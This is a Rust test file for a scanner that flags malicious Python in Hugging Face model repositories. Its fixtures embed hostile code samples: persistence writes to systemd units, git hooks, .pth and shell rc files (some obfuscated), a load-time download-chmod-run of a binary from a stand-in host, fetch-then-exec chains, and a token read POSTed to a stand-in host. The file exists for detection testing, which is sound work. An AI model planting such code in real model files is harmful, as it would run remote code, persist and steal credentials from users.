//! Data flow in remote code (`taint-flow`): a source reaching a sink at import or load time
//! is an error that names the path; a source alone or a sink alone is no flow; flows cross
//! functions through arguments and return values, and files through imports.

use std::sync::Arc;

use hubwarden::model::{ExecContext, Family, FileKind, HubKind, Level, RemoteFile};
use hubwarden::scan::{FileFacts, Hit, Load, Part, RuleSet, Scanner};

fn scanner() -> Scanner {
    Scanner::new(&RuleSet::load(&[]).unwrap()).unwrap()
}

fn remote(path: &str, src: &str) -> RemoteFile {
    RemoteFile {
        hub: HubKind::Huggingface,
        repo_id: "taint/repo".into(),
        commit: "0".repeat(40),
        path: path.into(),
        sha256: String::new(),
        bytes: src.len() as u64,
        why: "test".into(),
        kind: FileKind::Python,
        content: Arc::new(src.as_bytes().to_vec()),
    }
}

/// The taint-flow hits of the files of one target loaded by transformers: (file, hit).
fn flows(files: &[(&str, &str)]) -> Vec<(String, Hit)> {
    hits_of(files, &[], |h| h.rule_id == "taint-flow")
}

/// The hits `keep` selects of one target loaded by transformers, with `data` (path,
/// bytes) among its files as pickles: (file, hit).
fn hits_of(
    files: &[(&str, &str)],
    data: &[(&str, &[u8])],
    keep: impl Fn(&Hit) -> bool,
) -> Vec<(String, Hit)> {
    let s = scanner();
    let mut remotes: Vec<RemoteFile> = files.iter().map(|(p, c)| remote(p, c)).collect();
    for (p, bytes) in data {
        let mut r = remote(p, "");
        r.kind = FileKind::Pickle;
        r.bytes = bytes.len() as u64;
        r.content = Arc::new(bytes.to_vec());
        remotes.push(r);
    }
    let facts: Vec<FileFacts> = remotes.iter().map(|f| s.analyze(f)).collect();
    let parts: Vec<Part> = remotes
        .iter()
        .zip(&facts)
        .map(|(f, facts)| Part {
            path: &f.path,
            kind: f.kind,
            src: &f.content,
            facts,
            entry: f.path.starts_with("modeling") || f.path.starts_with("configuration"),
        })
        .collect();
    let load = Load {
        family: Some(Family::Transformers),
        entry: None,
    };
    s.verdicts(&parts, &load)
        .into_iter()
        .zip(&remotes)
        .flat_map(|(hits, f)| {
            hits.into_iter()
                .filter(|h| keep(h))
                .map(|h| (f.path.clone(), h))
                .collect::<Vec<_>>()
        })
        .collect()
}

/// A modeling file whose model constructor (load time) runs `body`.
fn model_init(imports: &str, body: &str) -> String {
    let body: String = body.lines().map(|l| format!("        {l}\n")).collect();
    format!(
        "{imports}\nfrom transformers import PreTrainedModel\n\n\nclass M(PreTrainedModel):\n    def __init__(self, config):\n        super().__init__(config)\n{body}"
    )
}

/// The persistence writes (not the literal mentions) found in one modeling file.
fn persistence(src: &str) -> Vec<(u32, Level, ExecContext)> {
    hits_of(&[("modeling_p.py", src)], &[], |h| {
        h.rule_id == "persistence-write" && h.message.starts_with("Writes where code persists")
    })
    .into_iter()
    .map(|(_, h)| (h.line, h.level, h.context))
    .collect()
}

#[test]
fn writes_where_code_persists_through_path_apis_are_errors_at_load() {
    // Every path spelling and every way of putting a file there (line 8 of the file is the
    // first line of the body).
    let evil = [
        (
            "from pathlib import Path",
            "u = Path.home() / \".config/systemd/user/x.service\"\nu.write_text(\"[Service]\")",
        ),
        (
            "from pathlib import Path",
            "t = Path(\"~\").expanduser().joinpath(\".config\", \"systemd\", \"user\", \"x.timer\")\nt.write_text(\"[Timer]\")",
        ),
        (
            "import os",
            "h = os.path.join(os.getcwd(), \".git\", \"hooks\", \"pre-commit\")\nwith open(h, \"w\") as f:\n    f.write(\"true\")",
        ),
        (
            "import os",
            "fd = os.open(f\"{os.getcwd()}/.git/hooks/post-checkout\", os.O_WRONLY | os.O_CREAT)",
        ),
        (
            "import site",
            "sp = site.getsitepackages()[0]\nwith open(sp + \"/x.pth\", \"w\") as f:\n    f.write(\"import os\")",
        ),
        (
            "import os\nimport site",
            "d = site.getusersitepackages()\nwith open(os.path.join(d, \"sitecustomize.py\"), \"w\") as f:\n    f.write(\"x\")",
        ),
        (
            "import os\nimport shutil\nimport sysconfig",
            "shutil.copy(os.path.join(os.path.dirname(__file__), \"a.pth\"), sysconfig.get_paths()[\"purelib\"])",
        ),
        (
            "import site",
            "n = \"\".join(chr(c) for c in (104, 102, 46, 112, 116, 104))\nopen(\"/tmp/\" + n, \"w\").write(\"x\")",
        ),
        (
            "import base64\nimport os",
            "rc = os.path.expanduser(base64.b64decode(\"fi8uYmFzaHJj\").decode())\nwith open(rc, \"a\") as f:\n    f.write(\"true\")",
        ),
        (
            "import os",
            "os.replace(\"/tmp/x\", os.path.join(\"/var/spool/cron/crontabs\", \"u\"))",
        ),
        (
            "from pathlib import Path",
            "with (Path.home() / \".zshrc\").open(\"a\") as f:\n    f.write(\"true\")",
        ),
    ];
    for (imports, body) in evil {
        let src = model_init(imports, body);
        let got = persistence(&src);
        assert!(
            got.iter()
                .any(|(_, l, c)| *l == Level::Error && *c == ExecContext::LoadTime),
            "not an error at load:\n{src}\n{got:?}"
        );
    }
    // A helper in another file writes what the model passes it.
    let helper = "import os\n\n\ndef save_text(folder, name, text):\n    with open(os.path.join(folder, name), \"w\") as f:\n        f.write(text)\n";
    let model = model_init(
        "import site\n\nfrom .io_utils import save_text",
        "save_text(site.USER_SITE, \"usercustomize.py\", \"x\")",
    );
    let got = hits_of(
        &[("modeling_p.py", &model), ("io_utils.py", helper)],
        &[],
        |h| h.rule_id == "persistence-write",
    );
    assert_eq!(got.len(), 1, "{got:#?}");
    assert_eq!(got[0].0, "io_utils.py");
    assert_eq!(got[0].1.level, Level::Error);
    assert!(
        got[0].1.message.contains("`site.USER_SITE`"),
        "{}",
        got[0].1.message
    );
}

#[test]
fn cache_files_site_reads_and_checkpoints_are_not_persistence() {
    let benign = [
        (
            "import json\nfrom pathlib import Path",
            "c = Path.home() / \".cache\" / \"m\" / \"rope.json\"\nc.write_text(json.dumps({}))",
        ),
        (
            "import os\nimport site",
            "ok = any(os.path.isdir(os.path.join(p, \"flash_attn\")) for p in site.getsitepackages())",
        ),
        (
            "import os",
            "d = os.path.join(os.path.expanduser(\"~\"), \".cache\", \"m\")\nwith open(os.path.join(d, \"rotary.pth\"), \"wb\") as f:\n    f.write(b\"\")",
        ),
        (
            "import os",
            "with open(os.path.join(os.path.dirname(__file__), \".git\", \"HEAD\")) as f:\n    ref = f.read()",
        ),
        ("", "name = \"model.pth\".replace(\".pth\", \"\")"),
    ];
    for (imports, body) in benign {
        let src = model_init(imports, body);
        assert_eq!(persistence(&src), [], "{src}");
    }
}

#[test]
fn repo_data_unpickled_at_load_is_unverified_unless_among_the_scanned_files() {
    let unverified = |src: &str, data: &[(&str, &[u8])]| -> Vec<(Level, String)> {
        hits_of(&[("modeling_u.py", src)], data, |h| {
            h.rule_id == "unverified-fetched-code"
        })
        .into_iter()
        .map(|(_, h)| (h.level, h.message))
        .collect()
    };
    let evil = [
        (
            "import os\nimport numpy as np",
            "t = np.load(os.path.join(os.path.dirname(__file__), \"rotary_cache.npy\"), allow_pickle=True)",
            "rotary_cache.npy",
        ),
        (
            "import os\nimport pickle",
            "with open(os.path.join(os.path.dirname(__file__), \"v.pkl\"), \"rb\") as f:\n    v = pickle.load(f)",
            "v.pkl",
        ),
        (
            "import os\nimport torch",
            "s = torch.load(os.path.join(os.path.dirname(__file__), \"r.pt\"), weights_only=False)",
            "r.pt",
        ),
        (
            "import pickle\nfrom pathlib import Path",
            "s = pickle.loads(Path(__file__).with_name(\"state.bin\").read_bytes())",
            "state.bin",
        ),
        (
            "import joblib",
            "s = joblib.load(\"scaler.joblib\")",
            "scaler.joblib",
        ),
    ];
    for (imports, body, name) in evil {
        let src = model_init(imports, body);
        let got = unverified(&src, &[]);
        assert_eq!(got.len(), 1, "{src}\n{got:#?}");
        assert_eq!(got[0].0, Level::Error, "{src}");
        assert!(got[0].1.contains(&format!("`{name}`")), "{}", got[0].1);
        // A part of the same name (here at the root, as `x.npy` might also sit in a
        // folder the call computes) does not lower the call: only the call's own
        // follow record does (`follow::repo_data_files_unpickled_at_load_are_followed`).
        let pickle: &[u8] = b"\x80\x02}q\x00.";
        let got = unverified(&src, &[(name, pickle)]);
        assert_eq!(got.len(), 1, "{got:#?}");
        assert_eq!(got[0].0, Level::Error, "{}", got[0].1);
    }
    let benign = [
        (
            "import pickle",
            "d = pickle.loads(pickle.dumps({\"a\": 1}))",
        ),
        (
            "import os\nimport numpy as np",
            "t = np.load(os.path.join(os.path.dirname(__file__), \"t.npy\"))",
        ),
        (
            "import numpy as np",
            "t = np.load(\"t.npy\", allow_pickle=False)",
        ),
        (
            "import torch",
            "s = torch.load(\"r.pt\", weights_only=True)",
        ),
    ];
    for (imports, body) in benign {
        let src = model_init(imports, body);
        assert_eq!(unverified(&src, &[]), [], "{src}");
    }
}

#[test]
fn download_write_chmod_run_in_from_pretrained_names_the_path() {
    let src = r#"import os
import subprocess

import requests
from transformers import PreTrainedModel


class EvilModel(PreTrainedModel):
    @classmethod
    def from_pretrained(cls, *args, **kwargs):
        r = requests.get("https://mirror.example.invalid/tools/fastload", timeout=5)
        path = os.path.join(os.path.expanduser("~"), ".cache", "fastload")
        with open(path, "wb") as f:
            f.write(r.content)
        os.chmod(path, 0o755)
        subprocess.Popen([path])
        return super().from_pretrained(*args, **kwargs)
"#;
    let got = flows(&[("modeling_evil.py", src)]);
    assert_eq!(got.len(), 1, "{got:#?}");
    let h = &got[0].1;
    assert_eq!(
        (h.level, h.context, h.line),
        (Level::Error, ExecContext::LoadTime, 16)
    );
    assert!(
        h.message
            .contains("`requests.get` → `open(..., \"wb\")` → `os.chmod` → `subprocess.Popen`"),
        "{}",
        h.message
    );
    assert!(h.message.contains("from_pretrained"), "{}", h.message);
    assert_eq!(h.snippet, "subprocess.Popen([path])");
}

#[test]
fn a_source_alone_or_a_sink_alone_is_no_flow() {
    let src = r#"import os
import subprocess

import requests
from huggingface_hub import hf_hub_download

HF_TOKEN = os.environ.get("HF_TOKEN")
CONFIG = requests.get("https://huggingface.co/api/models/x", headers={"authorization": f"Bearer {HF_TOKEN}"}).json()
_p = hf_hub_download("org/x", "pooling.json", token=HF_TOKEN)
subprocess.run(["nvcc", "--version"], env=dict(os.environ))
with open(os.path.join(os.path.dirname(__file__), "generation_config.json")) as f:
    import json
    DEFAULTS = json.load(f)
_ip = __import__("socket").gethostbyname(__import__("socket").gethostname())
"#;
    let got = flows(&[("modeling_ok.py", src)]);
    assert!(got.is_empty(), "{got:#?}");
}

#[test]
fn flows_cross_functions_through_arguments_and_return_values() {
    let helpers = r#"import base64
import urllib.request


def fetch(url):
    return urllib.request.urlopen(url).read()


def run(code):
    exec(code)
"#;
    let modeling = r#"from transformers import PreTrainedModel

from .helpers import fetch, run


class M(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        blob = fetch("https://cfg.example.invalid/init.py")
        run(blob)
"#;
    let got = flows(&[("helpers.py", helpers), ("modeling_m.py", modeling)]);
    assert_eq!(got.len(), 1, "{got:#?}");
    let (file, h) = &got[0];
    assert_eq!(file, "helpers.py");
    assert_eq!((h.line, h.level), (10, Level::Error));
    assert!(
        h.message
            .contains("`urllib.request.urlopen` → `fetch()` → `run()` → `exec`"),
        "{}",
        h.message
    );
}

#[test]
fn secrets_and_identity_reaching_the_network() {
    let src = r#"import os
import platform
import socket

import requests

_t = open(os.path.expanduser("~/.cache/huggingface/token")).read()
requests.post("https://hub-metrics.example.invalid/t", data=_t, timeout=2)
socket.gethostbyname(platform.node() + ".ns.example.invalid")
_k = os.environ["OPENAI_API_KEY"]
"#;
    let got = flows(&[("modeling_x.py", src)]);
    let lines: Vec<(u32, Level)> = got.iter().map(|(_, h)| (h.line, h.level)).collect();
    assert_eq!(lines, [(8, Level::Error), (9, Level::Error)], "{got:#?}");
    assert!(
        got[0]
            .1
            .message
            .contains("a secret reaches `requests.post`")
    );
    assert!(
        got[1]
            .1
            .message
            .contains("`platform.node` → `socket.gethostbyname`")
    );
}

#[test]
fn config_values_reaching_code_and_call_time_flows() {
    let src = r#"import importlib
import subprocess

from transformers import PreTrainedModel


class M(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        getattr(importlib.import_module(config.attn_backend), config.attn_fn)()

    def generate(self, prompt):
        subprocess.run(self.config.post_cmd)
"#;
    let got = flows(&[("modeling_c.py", src)]);
    let got: Vec<(u32, Level, ExecContext)> = got
        .iter()
        .map(|(_, h)| (h.line, h.level, h.context))
        .collect();
    assert_eq!(
        got,
        [
            (10, Level::Error, ExecContext::LoadTime),
            (13, Level::Warning, ExecContext::CallTime)
        ]
    );
}
